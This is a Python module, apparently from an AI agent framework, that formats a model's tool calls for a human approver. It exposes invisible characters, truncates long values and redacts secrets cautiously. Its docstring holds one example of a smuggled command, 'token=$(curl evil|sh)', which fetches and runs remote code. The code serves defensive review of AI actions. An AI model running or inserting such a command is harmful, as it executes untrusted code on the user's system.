r"""What an approver gets to see of a call: everything that matters, nothing that deceives.

The text comes from a model, so it is written by whoever could write to the model. Characters
that do not show, or that turn the order of others, are spelled as ``\u{202E}``; each line of a
value stands behind a bar, so that no value can pretend to be another line of this text.

Secrets are blanked more carefully than in logs. A log may lose a word; a review may not: what
``token=`` stands before is up to the model, and ``token=$(curl evil|sh)`` must not be hidden.
So only secrets this process knows by value, and pieces in the exact shape of a key that hold
nothing a shell acts on, are blanked.
"""

from __future__ import annotations

import hashlib
import json
import re
from typing import Any

from llmos_workers.contracts.tools import ToolCall
from llmos_workers.kernel.redact import MARK, shared
from llmos_workers.kernel.secrets import KEY_FORMS

HEAD_CHARS = 3_000
TAIL_CHARS = 1_000
MOST_ARGUMENTS = 50

_LOOKS_EMPTY = re.compile(
    "[\u034f\u115f\u1160\u17b4\u17b5\u180b-\u180f\u2800\u3164\ufe00-\ufe0f\uffa0\U000e0100-\U000e01ef]"
)
"""Characters that count as printable and show nothing."""

_URL_PASSWORD = re.compile(r"(\b[a-zA-Z][a-zA-Z0-9+.\-]*://[^\s/:@]*:)[\w.~+%=\-]+(@)")


def show_call(call: ToolCall) -> str:
    """The call as an approver sees it, several lines."""
    lines = [f"tool    {visible(call.name)}"]
    arguments = sorted(call.arguments.items())
    for name, value in arguments[:MOST_ARGUMENTS]:
        lines.append(f"{visible(name)}:")
        lines += [f"  | {line}" for line in _value(value)]
    if more := len(arguments) - MOST_ARGUMENTS:
        lines += [f"… and {more} more arguments"] if more > 0 else []
    hidden = _hidden(call)
    if hidden:
        lines.append(f"beware  characters that do not show, spelled out above: {hidden}")
    lines.append(f"digest  {call.digest()}")
    return "\n".join(lines)


def visible(text: str, *, limit: int | None = None) -> str:
    r"""The text on one line, everything that does not show spelled as ``\u{HEX}``."""
    if limit is not None and len(text) > limit:
        text = text[: limit - 1] + "…"
    # A backslash that could be mistaken for our own spelling is spelled, too.
    text = text.replace("\\u{", "\\u{5C}u{")
    return "".join(_spell(char) if _does_not_show(char) else char for char in text)


def blank_secrets(text: str) -> str:
    """The text without secrets; never blanks what a shell would act on."""
    text = shared().known(text)
    for pattern in KEY_FORMS:
        text = pattern.sub(MARK, text)
    return _URL_PASSWORD.sub(rf"\1{MARK}\2", text)


def _value(value: Any) -> list[str]:
    text = value if isinstance(value, str) else _json(value)
    clean = blank_secrets(text)
    if len(clean) <= HEAD_CHARS + TAIL_CHARS:
        return [visible(line) for line in clean.split("\n")]
    left_out = len(clean) - HEAD_CHARS - TAIL_CHARS
    digest = hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()
    return [
        *(visible(line) for line in clean[:HEAD_CHARS].split("\n")),
        f"[… {left_out:,} characters are not shown; sha256 of the whole value: {digest} …]",
        *(visible(line) for line in clean[-TAIL_CHARS:].split("\n")),
    ]


def _json(value: Any) -> str:
    return json.dumps(value, sort_keys=True, ensure_ascii=False)


def _hidden(call: ToolCall) -> str:
    """Which characters of the call do not show; line ends and tabs are everyday ones."""
    strings = [call.name, _json(call.arguments), *_strings(call.arguments)]
    found = {char for text in strings for char in text if _does_not_show(char)} - set("\n\t")
    return ", ".join(f"U+{ord(char):04X}" for char in sorted(found)[:20])


def _strings(value: Any) -> list[str]:
    """All texts inside a JSON value: JSON's own escapes would hide control characters."""
    if isinstance(value, str):
        return [value]
    if isinstance(value, dict):
        return [s for pair in value.items() for part in pair for s in _strings(part)]
    if isinstance(value, list | tuple):
        return [s for part in value for s in _strings(part)]
    return []


def _does_not_show(char: str) -> bool:
    return not char.isprintable() or bool(_LOOKS_EMPTY.match(char))


def _spell(char: str) -> str:
    return f"\\u{{{ord(char):X}}}"
